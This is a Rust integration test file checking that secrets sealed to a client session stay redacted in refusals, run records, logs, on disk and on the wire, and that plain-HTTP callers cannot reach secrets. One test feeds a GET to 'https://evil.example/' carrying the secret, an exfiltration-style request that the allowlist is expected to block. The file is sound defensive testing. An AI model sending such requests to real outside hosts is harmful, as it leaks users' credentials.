//! Values a client sealed to its session (`encrypted_secrets`) stay sealed all the way: out
//! of refused URLs, out of a formula's children and their records, and off the wire between
//! the router and a remote host in both directions. The wire is watched by a recording proxy.

use crate::catalysts::{policy, register};
use crate::formulas::{register_probe, PROBE};
use crate::secrets::{nacl_seal, sealing_server, session_key, tool};
use crate::support::*;
use serde_json::json;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

const SEALED: &str = "sk-SEALED-only-the-component-sees-me-4b1d";

/// A TCP proxy on loopback that forwards to `target` (which may be set after it starts) and
/// keeps every byte it carried, both ways.
struct Tap {
    addr: SocketAddr,
    target: Arc<Mutex<Option<SocketAddr>>>,
    seen: Arc<Mutex<Vec<u8>>>,
    stop: Arc<AtomicBool>,
}

impl Tap {
    fn start(target: Option<SocketAddr>) -> Tap {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let addr = listener.local_addr().unwrap();
        let tap = Tap {
            addr,
            target: Arc::new(Mutex::new(target)),
            seen: Arc::default(),
            stop: Arc::default(),
        };
        let (target, seen, stop) = (tap.target.clone(), tap.seen.clone(), tap.stop.clone());
        std::thread::spawn(move || {
            for client in listener.incoming() {
                if stop.load(Ordering::SeqCst) {
                    break;
                }
                let (Ok(client), Some(to)) = (client, *target.lock().unwrap()) else {
                    continue;
                };
                let Ok(upstream) = TcpStream::connect(to) else {
                    continue;
                };
                for (mut from, mut to) in [
                    (client.try_clone().unwrap(), upstream.try_clone().unwrap()),
                    (upstream, client),
                ] {
                    let seen = seen.clone();
                    std::thread::spawn(move || {
                        let mut buf = [0u8; 16 * 1024];
                        while let Ok(n) = from.read(&mut buf) {
                            if n == 0 || to.write_all(&buf[..n]).is_err() {
                                break;
                            }
                            seen.lock().unwrap().extend_from_slice(&buf[..n]);
                        }
                        let _ = to.shutdown(std::net::Shutdown::Both);
                    });
                }
            }
        });
        tap
    }

    fn url(&self) -> String {
        format!("http://{}", self.addr)
    }

    /// Asserts the wire never carried `needle`, nor its base64.
    fn assert_never_carried(&self, needle: &str, what: &str) {
        use base64::Engine;
        let seen = String::from_utf8_lossy(&self.seen.lock().unwrap()).into_owned();
        assert!(!seen.is_empty(), "{what}: the tap saw no traffic at all");
        assert!(
            !seen.contains(needle),
            "{what}: the value crossed the wire in clear"
        );
        assert!(
            !seen.contains(&base64::engine::general_purpose::STANDARD.encode(needle)),
            "{what}: the value crossed the wire as base64"
        );
    }
}

impl Drop for Tap {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        let _ = TcpStream::connect(self.addr);
    }
}

fn addr_of(url: &str) -> SocketAddr {
    url.trim_start_matches("http://")
        .split('/')
        .next()
        .unwrap()
        .parse()
        .unwrap()
}

/// Every run record the admin can see, with its logs, as one text.
fn all_records(s: &Server) -> String {
    let list = s.ok(
        &s.admin,
        "execution",
        json!({"action": "list", "limit": 100}),
    );
    let mut text = list.to_string();
    for run in list["executions"].as_array().unwrap() {
        text.push_str(
            &s.ok(
                &s.admin,
                "execution",
                json!({"action": "logs", "execution_id": run["execution_id"]}),
            )
            .to_string(),
        );
    }
    text
}

#[test]
fn a_sealed_value_in_a_refused_url_is_redacted_from_the_answer_and_the_records() {
    for remote in [false, true] {
        let (h, s) = sealing_server(remote);
        let http = register(&s, "components/catalysts/cyfr/http/0.1.0", "http-catalyst");
        policy(&s, &http, "allowed_domains", json!(["api.example.com"]));
        let sid = s.session();
        let (pk, kid) = session_key(&s, &sid);
        // The URL itself is the sealed value: the refusal records the URL it refused.
        let url = format!("https://evil.example/{SEALED}");
        let sealed = json!({"input.params.url": {"ciphertext": nacl_seal(&pk, &url), "kid": kid}});
        let r = tool(
            &s,
            &sid,
            "execution",
            json!({"action": "run", "reference": http, "input": {"operation": "request", "params": {"method": "GET"}}, "encrypted_secrets": sealed}),
        );
        let out = r["result"]["structuredContent"].to_string();
        assert!(
            out.contains("domain_blocked"),
            "remote={remote}: the fetch was not refused: {r}"
        );
        assert!(!r.to_string().contains(SEALED), "remote={remote}: {r}");
        let records = all_records(&s);
        assert!(
            records.contains("domain_blocked"),
            "remote={remote}: {records}"
        );
        assert!(
            !records.contains(SEALED),
            "remote={remote}: the records hold the sealed value: {records}"
        );
        // Nor any log (the server's, and the host's, which logs each refusal).
        s.assert_nowhere_on_disk(SEALED);
        if let Some(h) = &h {
            let log = std::fs::read_to_string(h.data.0.join("host.log")).unwrap_or_default();
            assert!(
                log.contains("egress refused"),
                "the host logged no refusal: {log}"
            );
            assert!(
                !log.contains(SEALED),
                "the host's log holds the sealed value: {log}"
            );
        }
    }
}

#[test]
fn a_formulas_sealed_input_stays_sealed_in_its_children_and_on_the_wire() {
    let h = Host::start();
    // Router → host and host → router (formula callbacks), each through a tap.
    let to_host = Tap::start(Some(addr_of(&h.url)));
    let to_router = Tap::start(None);
    let (_, pk) = h.spec.split_once('#').unwrap();
    let host_spec = format!("{}#{pk}", to_host.url());
    let s = Server::start_with(&[
        "--session-encryption",
        "--host",
        &host_spec,
        "--router-url",
        &to_router.url(),
    ]);
    *to_router.target.lock().unwrap() = Some(addr_of(&s.url));
    register_probe(&s);
    let jt = register_json_transform(&s);
    let sid = s.session();
    let (pk, kid) = session_key(&s, &sid);
    let seal = || json!({"ciphertext": nacl_seal(&pk, SEALED), "kid": kid});
    // The formula prints the value, hands it to a reagent that echoes it, and to a child
    // formula that prints it.
    let steps = json!([
        {"fn": "print", "text": "placeholder"},
        {"fn": "call", "req": {"reference": jt, "type": "reagent", "input": {"data": {"token": "placeholder"}}}},
        {"fn": "call", "req": {"reference": PROBE, "type": "formula", "input": {"steps": [{"fn": "print", "text": "placeholder"}]}}},
    ]);
    let sealed = json!({
        "input.steps.0.text": seal(),
        "input.steps.1.req.input.data.token": seal(),
        "input.steps.2.req.input.steps.0.text": seal(),
    });
    let r = tool(
        &s,
        &sid,
        "execution",
        json!({"action": "run", "reference": PROBE, "input": {"steps": steps}, "encrypted_secrets": sealed}),
    );
    let results = &r["result"]["structuredContent"]["result"]["results"];
    assert_eq!(results[1]["status"], "completed", "{r}");
    assert_eq!(results[1]["output"]["data"]["token"], "[REDACTED]", "{r}");
    assert_eq!(results[2]["status"], "completed", "{r}");
    assert!(!r.to_string().contains(SEALED), "{r}");

    // Three records, every log redacted (the child formula printed the value too).
    let records = all_records(&s);
    assert_eq!(
        s.ok(&s.admin, "execution", json!({"action": "list"}))["count"],
        3,
        "{records}"
    );
    assert!(records.contains("[REDACTED]"), "{records}");
    assert!(
        !records.contains(SEALED),
        "a record holds the sealed value: {records}"
    );
    s.assert_nowhere_on_disk(SEALED);
    // Neither the runs sent to the host, nor its answers, nor the formulas' callbacks and
    // their answers carried the value in clear.
    to_host.assert_never_carried(SEALED, "router <-> host");
    to_router.assert_never_carried(SEALED, "host <-> router callbacks");
}

#[test]
fn a_formula_started_over_plain_http_cannot_reach_secrets_through_its_tools() {
    let s = Server::start_with(&["--trusted-proxies", "127.0.0.1"]);
    register_probe(&s);
    policy(&s, PROBE, "allowed_tools", json!(["secret.*"]));
    let auth = format!("Bearer {}", s.admin);
    let set = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "secret", "arguments": {"action": "set", "name": "OPENAI", "value": SEALED}}});
    let r = s
        .post(
            &[
                ("authorization", &auth),
                ("x-forwarded-for", "203.0.113.5"),
                ("x-forwarded-proto", "https"),
            ],
            &set.to_string(),
        )
        .2;
    assert_eq!(r["result"]["isError"], false, "{r}");
    let run = |proto: &str| {
        let body = json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "execution", "arguments": {
            "action": "run", "reference": PROBE, "input": {"steps": [{"fn": "tool", "req": {"tool": "secret", "action": "list", "args": {}}}]}}}});
        let auth = format!("Bearer {}", s.admin);
        s.post(
            &[
                ("authorization", &auth),
                ("x-forwarded-for", "203.0.113.5"),
                ("x-forwarded-proto", proto),
            ],
            &body.to_string(),
        )
        .2
    };
    // From a client the proxy reached over plain HTTP, the formula's tool call is refused
    // like the client's own would be, though the callback itself comes from loopback.
    let r = run("http");
    let answer = &r["result"]["structuredContent"]["result"]["results"][0];
    assert!(
        answer["error"]["message"]
            .as_str()
            .unwrap_or("")
            .contains("HTTPS"),
        "{r}"
    );
    assert!(answer.get("result").is_none(), "{r}");
    // Over HTTPS, the same formula lists the secret (masked).
    let r = run("https");
    let answer = &r["result"]["structuredContent"]["result"]["results"][0];
    assert_eq!(answer["status"], "ok", "{r}");
    assert_eq!(answer["result"]["count"], 1, "{r}");
}
